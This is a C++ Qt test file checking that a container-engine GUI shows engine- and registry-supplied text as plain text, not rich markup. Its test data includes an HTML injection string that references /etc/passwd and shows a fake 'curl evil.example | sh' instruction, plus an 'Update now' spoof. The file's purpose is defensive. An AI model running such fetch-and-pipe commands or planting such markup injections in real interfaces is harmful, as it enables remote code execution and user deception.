// SPDX-License-Identifier: Apache-2.0
#include "common/messagebar.h"
#include "engine/engineclient.h"
#include "hostileserver.h"
#include "main/enginestatuswidget.h"
#include "main/mainwindow.h"

#include <QLabel>
#include <QTemporaryDir>
#include <QTest>

using namespace berth;
using berth::test::HostileServer;

// Text from an engine or registry is shown as written. A label guessing rich text let a hostile socket draw fake
// instructions in the status bar and make the GUI load local files as images.
class TestPlainTextLabels : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void hostileEngineVersion_isShownAsTextNotMarkup();
    void messageBar_showsMarkupAsText();

private:
    QTemporaryDir m_config;
};

void TestPlainTextLabels::initTestCase()
{
    qputenv("BERTH_CONFIG_DIR", m_config.path().toUtf8());
}

void TestPlainTextLabels::hostileEngineVersion_isShownAsTextNotMarkup()
{
    QTemporaryDir dir;
    HostileServer server;
    QVERIFY(server.listenLocal(dir.filePath(QStringLiteral("engine.sock"))));
    server.setEngineVersion("<img src='/etc/passwd'><b>Run: curl evil.example | sh</b>");
    core::EngineClient client(
        core::Endpoint::fromHost(QStringLiteral("unix://") + dir.filePath(QStringLiteral("engine.sock"))));
    ui::MainWindow window(&client);
    window.show();
    QTRY_VERIFY_WITH_TIMEOUT(window.engineStatus()->text().contains(QLatin1String("<img src=")), 10000);
    int shown = 0;
    for (QLabel *label : window.findChildren<QLabel *>()) {
        if (!label->text().contains(QLatin1String("<img")))
            continue;
        ++shown;
        QVERIFY2(label->textFormat() == Qt::PlainText,
                 qPrintable(label->objectName() + QLatin1Char(' ') + label->text()));
    }
    QVERIFY(shown >= 1);
}

void TestPlainTextLabels::messageBar_showsMarkupAsText()
{
    ui::MessageBar bar;
    bar.showMessage(ui::MessageBar::Kind::Error, QStringLiteral("<h1>Update now</h1>"),
                    QStringLiteral("<img src='x'>"));
    const QList<QLabel *> labels = bar.findChildren<QLabel *>();
    QCOMPARE(labels.size(), 1);
    QCOMPARE(labels.first()->textFormat(), Qt::PlainText);
    QVERIFY(labels.first()->toolTip().contains(QLatin1String("&lt;img")));
}

QTEST_MAIN(TestPlainTextLabels)

#include "test_plaintextlabels.moc"
